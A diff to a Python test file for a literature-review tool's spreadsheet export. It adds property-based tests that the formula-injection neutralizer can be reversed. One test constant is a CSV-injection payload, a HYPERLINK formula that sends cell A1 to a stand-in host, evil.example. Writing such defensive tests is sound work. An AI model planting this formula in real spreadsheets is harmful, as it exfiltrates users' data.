@@ -9,12 +9,19 @@ from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 import litreview
 from litreview.app.state import AppState
 from litreview.cli import main
 from litreview.export import export
-from litreview.export._spreadsheet import FORMULA_PREFIXES, neutralize_cell, neutralize_cells
+from litreview.export._spreadsheet import (
+    FORMULA_PREFIXES,
+    neutralize_cell,
+    neutralize_cells,
+    restore_cell,
+)
 
 EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
 
@@ -31,9 +38,10 @@ def test_neutralize_cell_quotes_every_formula_start(start: str) -> None:
 
 
 def test_neutralize_cell_leaves_text_alone() -> None:
-    assert neutralize_cells(["Vision", "", " =1", "'=1", "a=b", "1-2"]) == [
-        "Vision", "", " =1", "'=1", "a=b", "1-2"
+    assert neutralize_cells(["Vision", "", " =1", "'quote", "a=b", "1-2"]) == [
+        "Vision", "", " =1", "'quote", "a=b", "1-2"
     ]  # fmt: skip
+    assert neutralize_cells(["'=1", "''-1"]) == ["''=1", "'''-1"]  # reversible
 
 
 @pytest.fixture
@@ -96,3 +104,11 @@ def test_app_exports_csv_for_spreadsheets(review: litreview.Review, tmp_path: Pa
     view = ExportView(state)
     view._format.value = "excel"
     assert view._name.value.endswith(".csv")
+
+
+@given(st.text(alphabet=st.sampled_from("'=+-@\t\r a1"), max_size=8) | st.text(max_size=20))
+def test_restore_cell_undoes_neutralize_cell(text: str) -> None:
+    cell = neutralize_cell(text)
+    assert restore_cell(cell) == text
+    assert not cell.startswith(FORMULA_PREFIXES)
+    assert cell == text or cell == "'" + text
